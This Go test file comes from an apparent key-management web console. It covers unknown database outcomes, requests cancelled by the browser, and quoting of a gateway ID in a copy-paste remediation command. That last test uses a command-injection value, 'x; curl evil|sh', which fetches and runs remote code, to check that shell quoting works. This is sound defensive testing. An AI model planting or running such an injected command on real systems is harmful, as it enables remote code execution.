package console

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"petgate/shared/keystore"
	"petgate/shared/operate"
)

// If the database does not answer, the change may have been made: the page says so, and the same form does not make it again.
func TestUnknownOutcome(t *testing.T) {
	s := newSite(t)
	b := s.signIn(keystore.ConsoleInvitation{})
	failure, made := error(nil), 0
	s.console.handle("POST /console/test", s.console.changing(func(context.Context, *form) (prepared, error) {
		return prepared{back: "/console/tenants/acme", Operation: operate.Operation{Change: func(context.Context) (operate.Outcome, error) {
			made++
			return operate.Outcome{View: operate.KeyView{Token: "secret"}}, failure
		}}}, nil
	}))
	lost := fmt.Errorf("create key: %w: connection reset", keystore.ErrUnavailable)
	for _, test := range []struct {
		once    string
		failure error
		status  int
		says    string
		made    int
	}{
		{"a", lost, 503, "It is not known whether the change was made", 1},
		{"a", nil, 409, "revoke the newest key", 1},
		{"b", errors.New("a mistake"), 503, "The database cannot be used", 2},
		{"b", nil, 200, "secret", 3},
		{"b", nil, 409, "revoke the newest key", 3},
		{strings.Repeat("c", 65), nil, 422, "Nothing was changed", 3},
	} {
		failure = test.failure
		status, _, page := s.send(b, "POST", "/console/test", "once="+test.once)
		if status != test.status || !strings.Contains(page, test.says) || made != test.made {
			t.Errorf("%s with %v: %d after %d changes, want %d, %d and %q in\n%s", test.once, test.failure, status, made, test.status, test.made, test.says, page)
		}
		if (test.once == "a" || test.status == 409) && !strings.Contains(page, `href="/console/tenants/acme"`) {
			t.Errorf("%s: the page has no link back:\n%s", test.once, page)
		}
	}
}

// A browser that leaves a page cancels the page's statements. That says nothing about the database.
func TestBrowserLeaves(t *testing.T) {
	s := newSite(t)
	b := s.signIn(keystore.ConsoleInvitation{})
	s.log.Reset()
	ctx, leave := context.WithCancel(t.Context())
	leave()
	w := httptest.NewRecorder()
	s.console.ServeHTTP(w, s.request(ctx, b, Home+"tenants"))
	s.console.fail(w, &visit{hasLeft: func() bool { return true }}, keystore.ErrUnavailable)
	if s.log.Len() > 0 || w.Body.Len() > 0 {
		t.Errorf("it gets %q, and the log %q", w.Body, s.log)
	}
	s.console.fail(w, &visit{hasLeft: func() bool { return false }}, keystore.ErrUnavailable)
	if s.log.Len() == 0 || w.Code != http.StatusServiceUnavailable {
		t.Errorf("a browser that waits gets %d, and the log %q", w.Code, s.log)
	}
}

// The ID of a gateway, which the gateway itself writes, is one word of the command to copy.
func TestCureQuotesGateway(t *testing.T) {
	g := keystore.Gateway{ID: "x; curl evil|sh\x1b"}
	for _, state := range []string{keystore.GatewaySilent, keystore.GatewayReplaced} {
		if cure := cureOf(g, state); !strings.HasSuffix(cure, "keyadmin gateway forget 'x; curl evil|sh?'") {
			t.Errorf("%s: %q", state, cure)
		}
	}
}
